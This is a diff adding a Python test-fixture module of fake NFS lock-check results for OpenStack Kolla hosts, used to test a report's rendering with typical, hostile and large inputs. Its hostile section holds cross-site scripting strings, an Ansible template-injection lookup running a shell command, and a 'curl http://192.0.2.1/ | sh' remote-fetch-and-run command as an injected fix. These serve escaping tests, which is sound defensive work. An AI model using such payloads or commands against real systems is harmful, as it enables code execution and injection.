@@ -1,0 +1,211 @@
+"""Results of nfs_lock_info as hosts return them, for the tests of the report: typical ones, hostile ones, and many."""
+
+import copy
+
+NFS = {"text": "Make rpcbind and rpc.statd live on this host; the mounts that exist recover at once.", "fix": "rpcbind_ensure",
+       "command": "ansible HOST -b -m nfslock.kolla.rpcbind_ensure"}
+NOTHING = {"fix": "none", "text": "Nothing is to be done.", "command": ""}
+PATCH = {
+    "fix": "patch",
+    "text": "Have the locks of the store (fuse.juicefs) mended. Else install the patched QEMU, which goes on without locks where they are refused, and warns: "
+    "nothing keeps two writers of one image apart then.",
+    "command": "ansible-playbook -i INVENTORY -l HOST nfslock.kolla.fix -e nfs_lock_fix_patch_set=FOLDER",
+}
+ANSWERS = {"state": "answers", "answers_ms": 0.6, "detail": "", "where": "host"}
+MEANING = {
+    "ok": "locks work",
+    "statd_dead": "rpc.statd is registered on this host and does not answer, so that NFSv3 locks fail",
+    "locks_refused": "the filesystem refuses every kind of lock that QEMU can take",
+}
+
+
+def probe(result, errno="", detail="", ms=0.4):
+    return {"result": result, "errno": errno, "ms": ms, "detail": detail}
+
+
+def mount(container, path, source, verdict, cure, fstype="nfs", vers="3", errno="ENOLCK"):
+    refused = verdict != "ok"
+    result = "refused" if refused else "granted"
+    errno = errno if refused else ""
+    return {
+        "container": container,
+        "path": path,
+        "source": source,
+        "fstype": fstype,
+        "vers": vers,
+        "options": f"rw,relatime,vers={vers},hard,proto=tcp,local_lock=none,addr=192.0.2.7" if vers else "rw,relatime",
+        "image": False,
+        "probed": "outside",
+        "probes": {
+            "ofd": probe(result, errno, "F_OFD_SETLK shared, byte 100" if refused else ""),
+            "posix": probe(result, errno, "F_SETLK shared, byte 100" if refused else "", 0.3),
+            "flock": probe(result, errno, "LOCK_SH" if refused else "", 0.3),
+        },
+        "verdict": verdict,
+        "reason": MEANING[verdict],
+        "evidence": [f"OFD lock: {result}" + (f" ({errno}), F_OFD_SETLK shared, byte 100" if refused else "")],
+        "recommended_fix": cure["fix"],
+        "cure": cure,
+        "holders": [],
+    }
+
+
+def packages(container, qemu="stock", variant=""):
+    version = "1:7.2+dfsg-7+deb12u18" + ("+nfslock1" if qemu == "patched" else "")
+    return {
+        "container": container,
+        "id": "4f1c0de5a3b1",
+        "image": f"quay.io/openstack.kolla/{container.replace('_', '-')}:2024.1-debian-bookworm",
+        "state": "running",
+        "distribution": "debian bookworm",
+        "qemu": qemu,
+        "variant": variant,
+        "installed": [{"name": "qemu-utils", "version": version, "patched": qemu == "patched", "held": qemu == "patched"}],
+        "seccomp": "none",
+        "error": "",
+    }
+
+
+def result(verdict, cure, mounts, packets, **more):
+    return {
+        "changed": False,
+        "failed": False,
+        "msg": f"{verdict}: {MEANING[verdict]}",
+        "engine": {"name": "docker", "version": "24.0.7", "error": ""},
+        "verdict": verdict,
+        "reason": MEANING[verdict],
+        "evidence": mounts[0]["evidence"] + (["rpc.statd: dead (udp 127.0.0.1:56979: connection refused)"] if verdict == "statd_dead" else []),
+        "cure": cure,
+        "mounts": mounts,
+        "packages": packets,
+        "stale_guests": [],
+        "drift": [],
+        "findings": [],
+        "rpcbind": ANSWERS,
+        "statd": {"state": "dead", "answers_ms": 0, "detail": "udp 127.0.0.1:56979: connection refused", "where": ""} if verdict == "statd_dead" else ANSWERS,
+        "stuck_probes": [],
+        "took_ms": 61.3,
+        **more,
+    }
+
+
+NOVA, CINDER = "/var/lib/nova/mnt/0a1b2c", "/var/lib/cinder/mnt/3d4e5f"
+
+
+def well():
+    return result(
+        "ok", NOTHING,
+        [mount("nova_compute", NOVA, "filer:/nova", "ok", NOTHING, vers="4.2"), mount("cinder_volume", CINDER, "filer:/cinder", "ok", NOTHING, vers="4.2")],
+        [packages(name) for name in ("nova_libvirt", "nova_compute", "cinder_volume")],
+    )
+
+
+def needs_rpcbind():
+    return result(
+        "statd_dead", NFS,
+        [mount("nova_compute", NOVA, "filer:/nova", "statd_dead", NFS), mount("cinder_volume", CINDER, "filer:/cinder", "ok", NOTHING, vers="4.2")],
+        [packages(name) for name in ("nova_libvirt", "nova_compute", "cinder_volume")],
+        findings=[
+            {"kind": "no_version", "message": "the share filer:/cinder has no vers option: Cinder and Nova may mount it with different versions",
+             "file": "/etc/kolla/cinder-volume/nfs_shares", "line": 1},
+            {"kind": "stray_statd", "message": "rpc.statd (process 812) runs in nova_compute and dies with it", "file": "", "line": 0},
+        ],
+    )
+
+
+def needs_patch():
+    return result(
+        "locks_refused", PATCH,
+        [mount("cinder_volume", "/var/lib/cinder/mnt/juice", "JuiceFS:vol", "locks_refused", PATCH, "fuse.juicefs", "", "ENOSYS")],
+        [packages("nova_libvirt"), packages("cinder_volume")],
+    )
+
+
+def patched():
+    cure = {"fix": "none", "text": "Nothing more is to be done: the patched QEMU goes on without locks here and warns.", "command": ""}
+    return result(
+        "locks_refused", cure,
+        [mount("cinder_volume", "/var/lib/cinder/mnt/juice", "JuiceFS:vol", "locks_refused", cure, "fuse.juicefs", "", "ENOSYS")],
+        [packages("nova_libvirt", "patched", "fallback"), packages("cinder_volume", "patched", "fallback"), packages("cinder_backup", "stock")],
+        stale_guests=[{"pid": 4711, "guest": "instance-0000002a", "locks": 6, "advice": "hard reboot or live-migrate it"}],
+        drift=[{"container": "cinder_backup", "kind": "recreated", "was": "77aa00bb", "is": "88cc11dd", "message": "kolla recreated it without the patch: run the fix again"}],
+    )
+
+
+UNREACHABLE = {"changed": False, "unreachable": True, "msg": "Failed to connect to the host via ssh: ssh: connect to host compute4 port 22: No route to host"}
+FAILED = {"changed": False, "failed": True, "msg": "cannot look at the host: this needs root; use become"}
+
+TYPICAL = {
+    "compute1": well(),
+    "compute2": needs_rpcbind(),
+    "compute3": patched(),
+    "compute10": needs_patch(),
+    "compute4": UNREACHABLE,
+    "storage1": FAILED,
+    "storage2": None,
+}
+
+# Each must stay text in every form of the report. report_alarm() is what they call if they do not.
+ATTACKS = [
+    "<img src=x onerror=report_alarm()>",
+    "</script><script>report_alarm()</script>",
+    "<!--<script>",
+    "]]><svg onload=report_alarm()>",
+    "'\"><b class=injected>",
+    "{{ lookup('pipe', 'touch /tmp/nfslock-injected') }}{% raw %}",
+    "a\nb\r\n# heading\n- item",
+    "`code` ``two`` | cell | **bold** [link](javascript:report_alarm()) ![x](http://192.0.2.1/x.png) <http://192.0.2.1> https://192.0.2.1 @team",
+    "\u202eevil\u2028line\u2029\u0000\u007f\u200b\ufeff",
+    "back\\slash \"quote\" \\n \\",
+    "\ud800 lone",
+    "x" * 10000,
+]
+
+
+def hostile():
+    """Every text of a result is an attack, by turns."""
+    turn = 0
+
+    def poison(value, key=""):
+        nonlocal turn
+        if isinstance(value, dict):
+            return {name: poison(item, name) for name, item in value.items()}
+        if isinstance(value, list):
+            return [poison(item) for item in value]
+        if isinstance(value, str) and key not in ("verdict", "fix", "result"):
+            turn += 1
+            return ATTACKS[turn % len(ATTACKS)]
+        return value
+
+    odd = poison(patched())
+    for attack in ATTACKS:
+        row = copy.deepcopy(odd["mounts"][0])
+        row.update(container=attack, path=attack, source=attack)
+        odd["mounts"].append(row)
+        odd["stale_guests"].append({"pid": 1, "guest": attack, "locks": 1, "advice": attack})
+        odd["findings"].append({"kind": attack, "message": attack, "file": attack, "line": 3})
+    odd["cure"]["fix"] = "patch"
+    odd["cure"]["command"] = "curl http://192.0.2.1/ | sh\nansible HOST -b -m nfslock.kolla.rpcbind_ensure"
+    return odd
+
+
+SHAPELESS = {"verdict": ["ok"], "mounts": {"a": 1}, "packages": [None, 3, "x", {"installed": "no"}], "cure": "none", "evidence": [{}, 1, "said"],
+             "findings": 1e400, "rpcbind": [], "stale_guests": [{"pid": "<b>", "guest": None}], "took_ms": True, "drift": [[[[[[[[[[1]]]]]]]]]]}
+
+
+def many(count=500):
+    """count hosts with five containers and two mounts each."""
+    names = ("nova_libvirt", "nova_compute", "cinder_volume", "cinder_backup", "cinder_scheduler")
+    makers = (well, needs_rpcbind, well, patched, well, needs_patch, well)
+    fleet = {}
+    for index in range(1, count + 1):
+        one = makers[index % len(makers)]()
+        one["mounts"] = [{**one["mounts"][side % len(one["mounts"])], "container": name, "path": f"{NOVA}{side}"} for name in names for side in range(2)]
+        one["packages"] = [{**one["packages"][0], "container": name} for name in names]
+        fleet[f"compute{index}"] = one
+    fleet[f"compute{count}"] = UNREACHABLE
+    return fleet
+
+
+def hostvars(results):
+    return {host: {} if info is None else {"nfs_lock_info_result": info} for host, info in results.items()}
